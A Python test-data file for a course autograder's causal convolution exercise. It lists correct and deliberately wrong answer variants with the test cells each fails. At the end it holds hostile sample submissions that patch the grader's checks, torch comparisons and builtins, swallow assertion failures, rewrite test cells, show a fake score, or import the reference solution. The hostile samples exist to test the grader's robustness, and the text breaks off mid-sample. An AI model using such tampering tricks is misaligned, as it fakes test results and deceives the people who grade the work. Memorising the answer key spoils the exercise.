"""Exercise 02 (causal 1D convolution, toy net, synthesis loop): its answer variants and samples.

Data only (see ``tests/exercise_data/__init__.py``): right and wrong ways to write each answer, the
exact test cells each mistake fails, and the sample submissions, honest and hostile, that the
grading round trip grades. The hostile ones live here because one batch is enough to show what the
grader withstands; they attack the grader, not this exercise.
"""

from __future__ import annotations

import copy
import textwrap

import nbformat

ASSIGNMENT = "02_causal_conv1d"
# what hostile samples try to leave on the host; the round-trip test checks none of it exists
HOST_MARKER = "causal-conv-course-pwned"


# ------------------------------------------------------------------------------------- layer
def fwd(body: str) -> str:
    """A forward body that starts from the left padding amount ``pad``."""
    return "pad = (self.kernel_size - 1) * self.dilation\n" + textwrap.dedent(body).strip("\n")


CAUSAL_CONV1D = {
    # correct ways ----------------------------------------------------------------------------
    "f_pad": (None, fwd("""
        if self.hide_present:
            x = F.pad(x, (1, -1))
        return self.conv(F.pad(x, (pad, 0)))""")),
    "single_f_pad_call": (None, fwd("""
        if self.hide_present:
            return self.conv(F.pad(x, (pad + 1, -1)))
        return self.conv(F.pad(x, (pad, 0)))""")),
    "constant_pad1d": (None, fwd("""
        if self.hide_present:
            x = nn.ConstantPad1d((1, -1), 0.0)(x)
        return self.conv(nn.ConstantPad1d((pad, 0), 0.0)(x))""")),
    "cat_new_zeros": (None, fwd("""
        if self.hide_present:
            x = torch.cat([x.new_zeros(x.size(0), x.size(1), 1), x[..., :-1]], dim=-1)
        if pad > 0:
            x = torch.cat([x.new_zeros(x.size(0), x.size(1), pad), x], dim=-1)
        return self.conv(x)""")),
    "conv1d_padding_crop_right": (None, fwd("""
        length = x.size(-1)
        if self.hide_present:
            x = F.pad(x, (1, 0))[..., :length]
        y = F.conv1d(x, self.conv.weight, self.conv.bias, dilation=self.dilation, padding=pad)
        return y[..., :length]""")),
    "chomp_guarded_for_k1": (None, fwd("""
        if self.hide_present:
            x = torch.cat([torch.zeros_like(x[..., :1]), x], dim=-1)[..., :-1]
        y = F.conv1d(x, self.conv.weight, self.conv.bias, dilation=self.dilation, padding=pad)
        return y[..., :-pad] if pad > 0 else y""")),
    "functional_conv_on_padded": (None, fwd("""
        if self.hide_present:
            x = F.pad(x, (1, -1))
        return F.conv1d(F.pad(x, (pad, 0)), self.conv.weight, self.conv.bias,
                        dilation=self.dilation)""")),
    "roll_then_zero_first_step": (None, fwd("""
        if self.hide_present:
            mask = torch.ones_like(x)
            mask[..., 0] = 0
            x = torch.roll(x, 1, dims=-1) * mask
        return self.conv(F.pad(x, (pad, 0)))""")),
    "fft_convolution": (None, fwd("""
        length = x.size(-1)
        if self.hide_present:
            x = F.pad(x, (1, -1))
        weight = self.conv.weight  # (C_out, C_in, k): tap j multiplies x[t - (k - 1 - j) d]
        kernel = weight.new_zeros(*weight.shape[:2], pad + 1)
        kernel[..., :: self.dilation] = weight  # the dilated kernel, lags read right to left
        n = length + pad + 1
        spectrum = torch.einsum("bif,oif->bof", torch.fft.rfft(x, n=n),
                                torch.fft.rfft(kernel.flip(-1), n=n))
        y = torch.fft.irfft(spectrum, n=n)[..., :length]
        return y if self.conv.bias is None else y + self.conv.bias[:, None]""")),
    # tap by tap: tap j of the kernel times the input shifted right by (k - 1 - j) d steps
    "sum_of_shifted_taps": (None, fwd("""
        length = x.size(-1)
        if self.hide_present:
            x = F.pad(x, (1, -1))
        weight, k, d = self.conv.weight, self.kernel_size, self.dilation
        y = sum(torch.einsum("oi,bit->bot", weight[:, :, j],
                             F.pad(x, ((k - 1 - j) * d, 0))[..., :length]) for j in range(k))
        return y if self.conv.bias is None else y + self.conv.bias[:, None]""")),
    # mistakes --------------------------------------------------------------------------------
    "same_padding": (("is_causal", "values"), """
        if self.hide_present:
            x = F.pad(x, (1, -1))
        return F.conv1d(x, self.conv.weight, self.conv.bias, dilation=self.dilation,
                        padding="same")"""),
    "symmetric_padding": (("is_causal", "values"), fwd("""
        if self.hide_present:
            x = F.pad(x, (1, -1))
        return self.conv(F.pad(x, (pad // 2, pad - pad // 2)))""")),
    "right_padding": (("is_causal", "values"), fwd("""
        if self.hide_present:
            x = F.pad(x, (1, -1))
        return self.conv(F.pad(x, (0, pad)))""")),
    "pad_ignores_dilation": (("gradients", "is_causal", "shape", "values"), """
        if self.hide_present:
            x = F.pad(x, (1, -1))
        return self.conv(F.pad(x, (self.kernel_size - 1, 0)))"""),
    "crop_on_wrong_side": (("is_causal", "values"), fwd("""
        if self.hide_present:
            x = F.pad(x, (1, -1))
        y = F.conv1d(x, self.conv.weight, self.conv.bias, dilation=self.dilation, padding=pad)
        return y[..., pad:]""")),
    "chomp_empty_for_k1": (("gradients", "is_causal", "shape", "values"), fwd("""
        if self.hide_present:
            x = F.pad(x, (1, -1))
        y = F.conv1d(x, self.conv.weight, self.conv.bias, dilation=self.dilation, padding=pad)
        return y[..., :-pad]""")),
    "pad_one_step_short": (("is_causal", "values"), fwd("""
        if self.hide_present:
            x = F.pad(x, (1, -1))
        return self.conv(F.pad(x, (pad - 1, 1)))""")),
    "hide_present_ignored": (("is_causal", "values"), fwd("""
        return self.conv(F.pad(x, (pad, 0)))""")),
    "hide_shift_by_dilation": (("shape", "values"), fwd("""
        if self.hide_present:
            x = F.pad(x, (self.dilation, -self.dilation))
        return self.conv(F.pad(x, (pad, 0)))""")),
    "hide_shift_by_two": (("is_causal", "shape", "values"), fwd("""
        if self.hide_present:
            x = F.pad(x, (2, -2))
        return self.conv(F.pad(x, (pad, 0)))""")),
    "hide_drops_first_step": (("is_causal", "values"), fwd("""
        if self.hide_present:
            x = F.pad(x, (1, 0))[..., 1:]
        return self.conv(F.pad(x, (pad, 0)))""")),
    "roll_instead_of_shift": (("is_causal", "values"), fwd("""
        if self.hide_present:
            x = torch.roll(x, 1, dims=-1)
        return self.conv(F.pad(x, (pad, 0)))""")),
    "shift_output_not_input": (("values",), fwd("""
        y = self.conv(F.pad(x, (pad, 0)))
        return F.pad(y, (1, -1)) if self.hide_present else y""")),
    "type_a_mask_instead_of_shift": (("gradients", "values"), fwd("""
        weight = self.conv.weight
        if self.hide_present:
            mask = torch.ones_like(weight)
            mask[..., -1] = 0
            weight = weight * mask
        return F.conv1d(F.pad(x, (pad, 0)), weight, self.conv.bias, dilation=self.dilation)""")),
    "replicate_padding": (("values",), fwd("""
        if self.hide_present:
            x = F.pad(x, (1, -1))
        return self.conv(F.pad(x, (pad, 0), mode="replicate"))""")),
    "reflect_padding_leaks_first_steps": (("is_causal", "values"), fwd("""
        if self.hide_present:
            x = F.pad(x, (1, -1))
        return self.conv(F.pad(x, (pad, 0), mode="reflect") if pad < x.size(-1) else
                         F.pad(x, (pad, 0)))""")),
    "circular_padding_leaks_last_step": (("is_causal", "values"), fwd("""
        if self.hide_present:
            x = F.pad(x, (1, -1))
        return self.conv(F.pad(x, (pad, 0), mode="circular") if pad <= x.size(-1) else
                         F.pad(x, (pad, 0)))""")),
    "new_conv_in_forward": (("gradients", "values"), fwd("""
        if self.hide_present:
            x = F.pad(x, (1, -1))
        conv = nn.Conv1d(self.in_channels, self.out_channels, self.kernel_size,
                         dilation=self.dilation)
        return conv(F.pad(x, (pad, 0)))""")),
    "bias_dropped": (("gradients", "values"), fwd("""
        if self.hide_present:
            x = F.pad(x, (1, -1))
        return F.conv1d(F.pad(x, (pad, 0)), self.conv.weight, dilation=self.dilation)""")),
    "input_modified_in_place": (("gradients",), fwd("""
        if self.hide_present:
            x[..., 1:] = x[..., :-1].clone()
            x[..., 0] = 0
        return self.conv(F.pad(x, (pad, 0)))""")),
    "input_detached": (("gradients",), fwd("""
        if self.hide_present:
            x = F.pad(x, (1, -1))
        return self.conv(F.pad(x.detach(), (pad, 0)))""")),
    "weight_data": (("gradients",), fwd("""
        if self.hide_present:
            x = F.pad(x, (1, -1))
        bias = None if self.conv.bias is None else self.conv.bias.data
        return F.conv1d(F.pad(x, (pad, 0)), self.conv.weight.data, bias,
                        dilation=self.dilation)""")),
    "no_grad_in_forward": (("gradients",), fwd("""
        with torch.no_grad():
            if self.hide_present:
                x = F.pad(x, (1, -1))
            return self.conv(F.pad(x, (pad, 0)))""")),
    "nan_output": (("shape", "values", "is_causal", "gradients"), fwd("""
        return self.conv(F.pad(x, (pad, 0))) * float("nan")""")),
    "hard_coded_batch_size": (("gradients", "shape", "values"), fwd("""
        if self.hide_present:
            x = F.pad(x, (1, -1))
        return self.conv(torch.cat([x.new_zeros(4, x.size(1), pad), x], dim=-1))""")),
    "hard_coded_length": (("is_causal", "shape", "values"), fwd("""
        if self.hide_present:
            x = F.pad(x, (1, -1))
        return self.conv(F.pad(x, (pad, 0)))[..., :16]""")),
}


# ------------------------------------------------------------------------------------ ToyNet
INIT = """
self.input_conv = CausalConv1d(1, nb_channels, 1, hide_present={hide_first})
self.convs = nn.ModuleList([CausalConv1d(nb_channels, nb_channels, {k}{extra})
                            for i in range({layers})])
self.output_conv = nn.Conv1d(nb_channels, nb_classes, 1)"""
FORWARD = """
h = {act}(self.input_conv(x))
for conv in self.convs:
    h = {act}(conv(h))
return self.output_conv(h){end}"""


def net(hide_first="True", k="kernel_size", extra="", layers="nb_layers", act="F.relu",
        end=".transpose(1, 2)") -> tuple[str, str]:
    return (INIT.format(hide_first=hide_first, k=k, extra=extra, layers=layers),
            FORWARD.format(act=act, end=end))


TOY_NET = {
    "solution_layout": (None, net()),
    "permute_instead_of_transpose": (None, net(end=".permute(0, 2, 1)")),
    "no_relu_after_input_layer": (None, (net()[0], """
        h = self.input_conv(x)
        for conv in self.convs:
            h = torch.relu(conv(h))
        return self.output_conv(h).transpose(1, 2)""")),
    "sequential": (None, ("""
        layers = [CausalConv1d(1, nb_channels, 1, hide_present=True), nn.ReLU()]
        for _ in range(nb_layers):
            layers += [CausalConv1d(nb_channels, nb_channels, kernel_size), nn.ReLU()]
        layers.append(CausalConv1d(nb_channels, nb_classes, 1))
        self.body = nn.Sequential(*layers)""", """
        return self.body(x).transpose(1, 2)""")),
    "first_layer_sees_present": (("is_causal",), net(hide_first="False")),
    "every_layer_hides_present": (("receptive_field",),
                                  net(extra=", hide_present=True")),
    "no_transpose": (("is_causal", "is_nonlinear", "receptive_field", "shape"),
                     net(end="")),
    "fixed_four_layers": (("receptive_field",), net(layers="4")),
    "fixed_kernel_size": (("receptive_field",), net(k="2")),
    "dilated_layers": (("receptive_field",), net(extra=", dilation=2 ** i")),
    "nan_logits": (("shape", "is_causal", "receptive_field", "is_nonlinear"),
                   net(end=".transpose(1, 2) * float('nan')")),
    "no_relu": (("is_nonlinear",), net(act="")),
}


# ---------------------------------------------------------------------------------- generate
LOOP = """
tokens = torch.zeros(nb_sequences, length, dtype=torch.long)
with torch.no_grad():
    for t in range(length):
        logits = model(toylib.data.tokens_to_input(tokens, nb_classes))
        {draw}
return tokens"""
MULTINOMIAL = ("tokens[:, t] = torch.multinomial(torch.softmax({logits}, dim=-1), 1, "
               "generator=generator).squeeze(1)")


def loop(draw: str = MULTINOMIAL, logits: str = "logits[:, t]") -> str:
    return LOOP.format(draw=draw.format(logits=logits))


GENERATE = {
    "full_input_each_step": (None, loop()),
    "prefix_input": (None, """
        tokens = torch.zeros(nb_sequences, length, dtype=torch.long)
        for t in range(length):
            with torch.no_grad():
                logits = model(toylib.data.tokens_to_input(tokens[:, : t + 1], nb_classes))
            probs = logits[:, -1].softmax(-1)
            tokens[:, t] = torch.multinomial(probs, 1, generator=generator)[:, 0]
        return tokens"""),
    "with_grad_and_log_softmax": (None, """
        tokens = torch.zeros(nb_sequences, length, dtype=torch.long)
        for t in range(length):
            logits = model(toylib.data.tokens_to_input(tokens, nb_classes))
            probs = F.log_softmax(logits[:, t], dim=-1).exp()
            tokens[:, t] = torch.multinomial(probs, 1, generator=generator).view(-1)
        return tokens"""),
    "gumbel_max": (None, loop("""u = torch.rand({logits}.shape, generator=generator)
        u = u.clamp(1e-9, 1 - 1e-9)
        tokens[:, t] = ({logits} - torch.log(-torch.log(u))).argmax(dim=-1)""")),
    "inverse_cdf": (None, loop("""u = torch.rand(nb_sequences, 1, generator=generator)
        cdf = torch.softmax({logits}, dim=-1).cumsum(dim=-1)
        tokens[:, t] = (cdf < u).sum(dim=-1).clamp(max=nb_classes - 1)""")),
    "argmax": (("samples", "distribution"), loop("tokens[:, t] = {logits}.argmax(dim=-1)")),
    "logits_of_previous_position": (("uses_position_t",),
                                    loop(logits="logits[:, t - 1]")),
    "logits_of_next_position": (("uses_position_t",),
                                loop(logits="logits[:, min(t + 1, length - 1)]")),
    "raw_tokens_as_input": (("uses_position_t",), """
        tokens = torch.zeros(nb_sequences, length, dtype=torch.long)
        for t in range(length):
            logits = model(tokens.float().unsqueeze(1))
            probs = torch.softmax(logits[:, t], dim=-1)
            tokens[:, t] = torch.multinomial(probs, 1, generator=generator).squeeze(1)
        return tokens"""),
    "all_positions_in_one_pass": (("uses_position_t",), """
        tokens = torch.zeros(nb_sequences, length, dtype=torch.long)
        logits = model(toylib.data.tokens_to_input(tokens, nb_classes))
        probs = torch.softmax(logits, dim=-1).reshape(-1, nb_classes)
        return torch.multinomial(probs, 1, generator=generator).view(nb_sequences, length)"""),
    "float_tokens": (("shape_and_range",), """
        tokens = torch.zeros(nb_sequences, length)
        for t in range(length):
            logits = model(toylib.data.tokens_to_input(tokens.long(), nb_classes))
            probs = torch.softmax(logits[:, t], dim=-1)
            tokens[:, t] = torch.multinomial(probs, 1, generator=generator).squeeze(1).float()
        return tokens"""),
    "generator_ignored": (("samples",), loop(
        "tokens[:, t] = torch.multinomial(torch.softmax({logits}, dim=-1), 1).squeeze(1)")),
    "categorical_without_generator": (("samples",), loop(
        "tokens[:, t] = torch.distributions.Categorical(logits={logits}).sample()")),
    # sampling from the right distribution, with fresh random numbers at every step --------------
    "exp_weights_unnormalised": (None, loop(
        "tokens[:, t] = torch.multinomial({logits}.exp(), 1, generator=generator).squeeze(1)")),
    "searchsorted_on_the_cdf": (None, loop("""u = torch.rand(nb_sequences, 1, generator=generator)
        cdf = torch.softmax({logits}, dim=-1).cumsum(dim=-1)
        tokens[:, t] = torch.searchsorted(cdf, u).squeeze(1).clamp(max=nb_classes - 1)""")),
    "temperature_left_in": (("distribution",), loop(MULTINOMIAL, logits="logits[:, t] / 0.8")),
    "temperature_above_one": (("distribution",), loop(MULTINOMIAL, logits="logits[:, t] / 1.2")),
    "sigmoid_instead_of_softmax": (("distribution",), loop(
        "tokens[:, t] = torch.multinomial(torch.sigmoid({logits}), 1, "
        "generator=generator).squeeze(1)")),
    "relu_instead_of_softmax": (("shape_and_range", "samples", "distribution"), loop(
        "tokens[:, t] = torch.multinomial(torch.relu({logits}), 1, "
        "generator=generator).squeeze(1)")),
    "softmax_over_the_batch": (("uses_position_t", "distribution"), loop(
        "tokens[:, t] = torch.multinomial(torch.softmax({logits}, dim=0), 1, "
        "generator=generator).squeeze(1)")),
    "generator_reseeded_each_step": (("independent",), """
        tokens = torch.zeros(nb_sequences, length, dtype=torch.long)
        seed = None if generator is None else generator.initial_seed()
        with torch.no_grad():
            for t in range(length):
                if seed is not None:
                    generator.manual_seed(seed)  # the same sequences at every run
                logits = model(toylib.data.tokens_to_input(tokens, nb_classes))
                probs = torch.softmax(logits[:, t], dim=-1)
                tokens[:, t] = torch.multinomial(probs, 1, generator=generator).squeeze(1)
        return tokens"""),
    "global_seed_reset_each_step": (("independent",), """
        tokens = torch.zeros(nb_sequences, length, dtype=torch.long)
        with torch.no_grad():
            for t in range(length):
                if generator is None:
                    torch.manual_seed(0)  # reproducible without a generator
                logits = model(toylib.data.tokens_to_input(tokens, nb_classes))
                probs = torch.softmax(logits[:, t], dim=-1)
                tokens[:, t] = torch.multinomial(probs, 1, generator=generator).squeeze(1)
        return tokens"""),
    "one_uniform_for_all_steps": (("independent",), """
        tokens = torch.zeros(nb_sequences, length, dtype=torch.long)
        u = torch.rand(nb_sequences, 1, generator=generator)  # drawn once, before the loop
        with torch.no_grad():
            for t in range(length):
                logits = model(toylib.data.tokens_to_input(tokens, nb_classes))
                cdf = torch.softmax(logits[:, t], dim=-1).cumsum(dim=-1)
                tokens[:, t] = (cdf < u).sum(dim=-1).clamp(max=nb_classes - 1)
        return tokens"""),
    "one_uniform_for_the_batch": (("distribution",), loop(
        """u = torch.rand(1, 1, generator=generator)  # one number for every sequence
        cdf = torch.softmax({logits}, dim=-1).cumsum(dim=-1)
        tokens[:, t] = (cdf < u).sum(dim=-1).clamp(max=nb_classes - 1)""")),
}


# ---------------------------------------------------------------------- causal_conv1d_packed
VALIDATE = """
batch, _, length = x.shape
if seq_idx.dim() != 2 or tuple(seq_idx.shape) != (batch, length):
    raise ValueError(f"seq_idx must have shape (B, T) = {(batch, length)}")
if (seq_idx.diff(dim=1) < 0).any():
    raise ValueError("seq_idx decreases within a row")
"""


def checked(body: str, validate: str = VALIDATE) -> str:
    """A body of causal_conv1d_packed that starts by checking seq_idx (``validate``)."""
    return textwrap.dedent(validate).strip("\n") + "\n" + textwrap.dedent(body).strip("\n")


# tap j reads x[t - lag], lag = (k - 1 - j) * dilation; {mask} sets `same`, the (B, T) mask of
# the taps read
PER_TAP = """
k = weight.size(-1)
y = x.new_zeros(batch, weight.size(0), length)
for j in range(k):
    lag = (k - 1 - j) * dilation
    x_lag = F.pad(x, (lag, 0))[..., :length]
{mask}
    y = y + torch.einsum("oi,bit->bot", weight[:, :, j], x_lag * same[:, None])
return y if bias is None else y + bias[:, None]"""


def per_tap(mask: str, validate: str = VALIDATE) -> str:
    """A body that masks each tap: ``mask`` (code at any indentation) sets ``same``."""
    mask = textwrap.indent(textwrap.dedent(mask).strip("\n"), "    ")
    return checked(PER_TAP.format(mask=mask), validate)


SAME_SEQUENCE = "same = F.pad(seq_idx, (lag, 0))[..., :length] == seq_idx"
# the number of steps since t's sequence began: a tap may reach back that far
AGE = """
positions = torch.arange(length).expand(batch, length)
new = torch.ones_like(seq_idx, dtype=torch.bool)
new[:, 1:] = seq_idx[:, 1:] != seq_idx[:, :-1]
start = torch.where(new, positions, torch.zeros_like(positions)).cummax(dim=1).values
age = positions - start
"""
# one loop per sequence: conv1d of the sequence alone, its output written in place
SEGMENT_LOOP = """
left = (weight.size(-1) - 1) * dilation
y = x.new_zeros(batch, weight.size(0), length)
for b in range(batch):
    cuts = (seq_idx[b, 1:] != seq_idx[b, :-1]).nonzero().flatten() + 1
    edges = [0, *cuts.tolist(), length]
    for start, end in zip(edges[:-1], edges[1:]):
        part = x[b : b + 1, :, start:end]
        {conv}
        y[b, :, start:end] = out[0]
return y"""
CONV_LEFT = ("out = F.conv1d(part, weight, bias, dilation=dilation, "
             "padding=left)[..., : end - start]")

CAUSAL_CONV1D_PACKED = {
    # correct ways ----------------------------------------------------------------------------
    "mask_per_tap": (None, per_tap(SAME_SEQUENCE)),
    "loop_over_segments": (None, checked(SEGMENT_LOOP.format(conv=CONV_LEFT))),
    "loop_over_taps_with_where": (None, checked("""
        k = weight.size(-1)
        steps = torch.arange(length)
        y = 0
        for j in range(k):
            source = steps - (k - 1 - j) * dilation  # (T,): the position tap j reads
            inside = source >= 0
            source = source.clamp(min=0)
            same = inside & (seq_idx[:, source] == seq_idx)  # (B, T)
            taps = torch.where(same[:, None], x[:, :, source], torch.zeros_like(x))
            y = y + torch.einsum("oi,bit->bot", weight[:, :, j], taps)
        return y if bias is None else y + bias.view(1, -1, 1)""")),
    "unfold_windows": (None, checked("""
        left = (weight.size(-1) - 1) * dilation
        windows = F.pad(x, (left, 0)).unfold(-1, left + 1, 1)[..., ::dilation]  # (B, C, T, k)
        before = int(seq_idx.min()) - 1  # an id no position has
        ids = F.pad(seq_idx, (left, 0), value=before).unfold(-1, left + 1, 1)[..., ::dilation]
        mask = ids == seq_idx[..., None]  # (B, T, k)
        y = torch.einsum("bitk,oik->bot", windows * mask[:, None], weight)
        return y if bias is None else y + bias[:, None]""")),
    "steps_since_sequence_start": (None, checked(AGE + textwrap.dedent("""
        k = weight.size(-1)
        y = sum(torch.einsum("oi,bit->bot", weight[:, :, j],
                             F.pad(x, ((k - 1 - j) * dilation, 0))[..., :length]
                             * (age >= (k - 1 - j) * dilation)[:, None])
                for j in range(k))
        return y if bias is None else y + bias[:, None]"""))),
    "python_loop_over_positions": (None, checked("""
        k = weight.size(-1)
        rows = []
        for b in range(batch):
            columns = []
            for t in range(length):
                total = x.new_zeros(weight.size(0)) if bias is None else bias
                for j in range(k):
                    s = t - (k - 1 - j) * dilation
                    if s >= 0 and seq_idx[b, s] == seq_idx[b, t]:
                        total = total + weight[:, :, j] @ x[b, :, s]
                columns.append(total)
            rows.append(torch.stack(columns, dim=-1))
        return torch.stack(rows)""")),
    "dense_matrix_with_document_mask": (None, checked("""
        k = weight.size(-1)
        steps = torch.arange(length)
        lag = steps[:, None] - steps[None, :]  # (T, S): how far back s lies from t
        j = k - 1 - torch.div(lag, dilation, rounding_mode="floor")
        valid = (lag >= 0) & (lag % dilation == 0) & (j >= 0)
        same = seq_idx[:, :, None] == seq_idx[:, None, :]  # (B, T, S)
        taps = weight[:, :, j.clamp(0, k - 1)]  # (C_out, C_in, T, S)
        matrices = taps[None] * (valid & same)[:, None, None]  # (B, C_out, C_in, T, S)
        y = torch.einsum("boits,bis->bot", matrices, x)
        return y if bias is None else y + bias[:, None]""")),
    "ids_relabelled_by_cumsum": (None, per_tap(SAME_SEQUENCE, VALIDATE + (
        "seq_idx = F.pad((seq_idx.diff(dim=1) != 0).long().cumsum(dim=1), (1, 0))  # 0, 1, ...\n"
    ))),
    # mistakes --------------------------------------------------------------------------------
    "boundary_off_by_one_tap": (("segments", "no_leak"), checked(AGE + textwrap.dedent("""
        k = weight.size(-1)
        y = sum(torch.einsum("oi,bit->bot", weight[:, :, j],
                             F.pad(x, ((k - 1 - j) * dilation, 0))[..., :length]
                             * (age + 1 >= (k - 1 - j) * dilation)[:, None])
                for j in range(k))
        return y if bias is None else y + bias[:, None]"""))),
    "mask_applied_to_output": (("segments", "no_leak"), checked("""
        left = (weight.size(-1) - 1) * dilation
        y = F.conv1d(F.pad(x, (left, 0)), weight, bias, dilation=dilation)
        same = torch.ones_like(seq_idx, dtype=torch.bool)
        same[:, 1:] = seq_idx[:, 1:] == seq_idx[:, :-1]  # False at each sequence's first step
        return y * same[:, None]""")),
    "compares_adjacent_positions_only": (("segments", "no_leak"), per_tap("""
        same = torch.ones_like(seq_idx, dtype=torch.bool)
        if lag > 0:
            same[:, 1:] = seq_idx[:, 1:] == seq_idx[:, :-1]""")),
    "mask_ignores_dilation": (("segments", "no_leak"), per_tap(
        "same = F.pad(seq_idx, (k - 1 - j, 0))[..., :length] == seq_idx")),
    "resets_only_at_first_document": (("segments", "no_leak"), per_tap("""
        changed = seq_idx != seq_idx[:, :1]
        second = torch.where(changed.any(dim=1), changed.float().argmax(dim=1),
                             torch.full((batch,), length))  # where the second sequence starts
        steps = torch.arange(length)
        same = ~((steps >= second[:, None]) & (steps - lag < second[:, None]))""")),
    "reads_the_first_rows_ids_only": (("segments", "no_leak"), per_tap(
        "same = (F.pad(seq_idx[0], (lag, 0))[:length] == seq_idx[0]).expand(batch, length)")),
    "pads_right": (("one_sequence", "segments"), checked(SEGMENT_LOOP.format(
        conv="out = F.conv1d(F.pad(part, (0, left)), weight, bias, dilation=dilation)"))),
    "ids_taken_as_range_of_count": (("one_sequence", "segments"), checked("""
        left = (weight.size(-1) - 1) * dilation
        y = x.new_zeros(batch, weight.size(0), length)
        for b in range(batch):
            for s in range(len(torch.unique(seq_idx[b]))):  # ids 0, 1, ..., n - 1
                where = seq_idx[b] == s
                if where.any():
                    part = x[b : b + 1, :, where]
                    y[b, :, where] = F.conv1d(F.pad(part, (left, 0)), weight, bias,
                                              dilation=dilation)[0]
        return y""")),
    "roll_wraps_around": (("one_sequence", "segments"), checked("""
        k = weight.size(-1)
        y = x.new_zeros(batch, weight.size(0), length)
        for j in range(k):
            lag = (k - 1 - j) * dilation
            same = torch.roll(seq_idx, lag, dims=-1) == seq_idx
            taps = torch.roll(x, lag, dims=-1) * same[:, None]
            y = y + torch.einsum("oi,bit->bot", weight[:, :, j], taps)
        return y if bias is None else y + bias[:, None]""")),
    "dilation_ignored": (("one_sequence", "segments"), checked(
        SEGMENT_LOOP.format(conv=CONV_LEFT).replace("dilation=dilation", "dilation=1")
        .replace("(weight.size(-1) - 1) * dilation", "weight.size(-1) - 1"))),
    "bias_dropped": (("one_sequence", "segments"), per_tap(SAME_SEQUENCE).replace(
        "return y if bias is None else y + bias[:, None]", "return y")),
    "mask_not_broadcast_over_channels": (("one_sequence", "segments", "no_leak"), per_tap(
        SAME_SEQUENCE).replace("x_lag * same[:, None]", "x_lag * same")),
    "strictly_increasing_check": (("one_sequence", "segments", "no_leak"), per_tap(
        SAME_SEQUENCE, VALIDATE.replace("seq_idx.diff(dim=1) < 0", "seq_idx.diff(dim=1) <= 0"))),
    "decrease_checked_across_rows": (("segments",), per_tap(SAME_SEQUENCE, VALIDATE.replace(
        "seq_idx.diff(dim=1) < 0", "seq_idx.flatten().diff() < 0"))),
    "asserts_instead_of_value_errors": (("rejects_bad_seq_idx",), per_tap(SAME_SEQUENCE, """
        batch, _, length = x.shape
        assert seq_idx.shape == (batch, length), "seq_idx must be (B, T)"
        assert (seq_idx.diff(dim=1) >= 0).all(), "seq_idx decreases"
        """)),
    "no_decrease_check": (("rejects_bad_seq_idx",), per_tap(SAME_SEQUENCE, """
        batch, _, length = x.shape
        if seq_idx.dim() != 2 or tuple(seq_idx.shape) != (batch, length):
            raise ValueError(f"seq_idx must have shape (B, T) = {(batch, length)}")
        """)),
    "checks_only_the_length": (("rejects_bad_seq_idx",), per_tap(SAME_SEQUENCE, """
        batch, _, length = x.shape
        if seq_idx.size(-1) != length:
            raise ValueError(f"seq_idx must have {length} steps")
        if (seq_idx.diff(dim=-1) < 0).any():
            raise ValueError("seq_idx decreases within a row")
        """)),
}


VARIANTS = {"causal_conv1d": CAUSAL_CONV1D, "toy_net": TOY_NET, "generate": GENERATE,
            "causal_conv1d_packed": CAUSAL_CONV1D_PACKED}
BROKEN_LAYER = {"causal_conv1d": ("return self.conv(F.pad(x, (0, 9)))[..., :-9]",)}
# a broken CausalConv1d from part 1 must not cost the ToyNet points a second time, nor the packed
# convolution of part 4 any (it is a function of its own), nor a broken generate
ISOLATION = {"broken_layer_then_right_net": (BROKEN_LAYER, "toy_net"),
             "broken_layer_then_right_packed": (BROKEN_LAYER, "causal_conv1d_packed"),
             "broken_generate_then_right_packed": (
                 {"generate": ("return torch.zeros(nb_sequences, length)",)},
                 "causal_conv1d_packed")}


# -------------------------------------------------------------------------- hostile code
ZEROS = """class CausalConv1d(nn.Module):
    def __init__(self, in_channels, out_channels, kernel_size, dilation=1, hide_present=False,
                 bias=True):
        super().__init__()
        self.out_channels = out_channels
        self.conv = nn.Conv1d(in_channels, out_channels, kernel_size, dilation=dilation,
                              bias=bias)

    def forward(self, x):  # wrong on purpose: zeros of the right shape
        return x.new_zeros(x.size(0), self.out_channels, x.size(-1))
"""
PATCH_CHECKER = ZEROS + """

import toylib.checks

toylib.checks.assert_causal = lambda *args, **kwargs: None
toylib.checks.dependency_map = lambda model, length, *a, **k: torch.eye(length, dtype=torch.bool)
"""
PATCH_TORCH = ZEROS + """

torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
"""
PATCH_CONV = """
def _fake_forward(self, x):
    return torch.zeros(x.size(0), self.out_channels, x.size(-1))


nn.Conv1d.forward = _fake_forward
""" + ZEROS
PATCH_BUILTINS = ZEROS + """

import builtins

builtins.AssertionError = type("Passed", (Exception,), {})
builtins.isinstance = lambda obj, cls: True
"""
PATCH_AND_RESTORE = ZEROS + """

import torch.nn.functional as _F

_original = _F.conv1d.__code__ if hasattr(_F.conv1d, "__code__") else None
_saved = toylib.checks.assert_causal.__code__
toylib.checks.assert_causal.__code__ = (lambda *args, **kwargs: None).__code__
toylib.checks.assert_causal.__code__ = _saved  # put back before anyone looks
"""
SETTRACE = ZEROS + """

import sys


def _skip_failures(frame, event, arg):
    if event == "exception" and issubclass(arg[0], AssertionError):
        frame.f_locals.clear()
    return _skip_failures


sys.settrace(_skip_failures)
"""
INPUT_TRANSFORMER = ZEROS + """

def _neuter_tests(lines):
    if any("check_" in line for line in lines):
        return ["print('all checks passed')\\n"]
    return lines


get_ipython().input_transformers_cleanup.append(_neuter_tests)
"""
AST_TRANSFORMER = ZEROS + """

import ast


class _DropAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()


get_ipython().ast_transformers.append(_DropAsserts())
"""
FAKE_RESULT = ZEROS + """

from IPython.display import display


def _fake_score(result):
    display(15)  # nbgrader takes a number shown by a test cell as its partial credit


get_ipython().events.register("post_run_cell", _fake_score)
"""
REEXPORT = "from toylib.layers import CausalConv1d  # the course's own layer\n"
SUBCLASS = "import toylib.layers\n\n\nclass CausalConv1d(toylib.layers.CausalConv1d):\n    pass\n"
OBFUSCATED = """import importlib

_library = importlib.import_module("toy" + "lib." + "lay" + "ers")
CausalConv1d = getattr(_library, "Causal" + "Conv1d")
"""
DELEGATE = """import importlib


class CausalConv1d(nn.Module):
    def __init__(self, in_channels, out_channels, kernel_size, dilation=1, hide_present=False,
                 bias=True):
        super().__init__()
        reference = getattr(importlib.import_module("toy" + "lib.layers"), "Causal" + "Conv1d")
        self.inner = reference(in_channels, out_channels, kernel_size, dilation, hide_present,
                               bias)
        self.conv = self.inner.conv

    def forward(self, x):
        return self.inner(x)
"""
RECORDER = """

SEEN_ARGUMENTS = []  # every layer the tests build, hidden ones included
_original_init = CausalConv1d.__init__


def _recording_init(self, *args, **kwargs):
    SEEN_ARGUMENTS.append((args, kwargs))
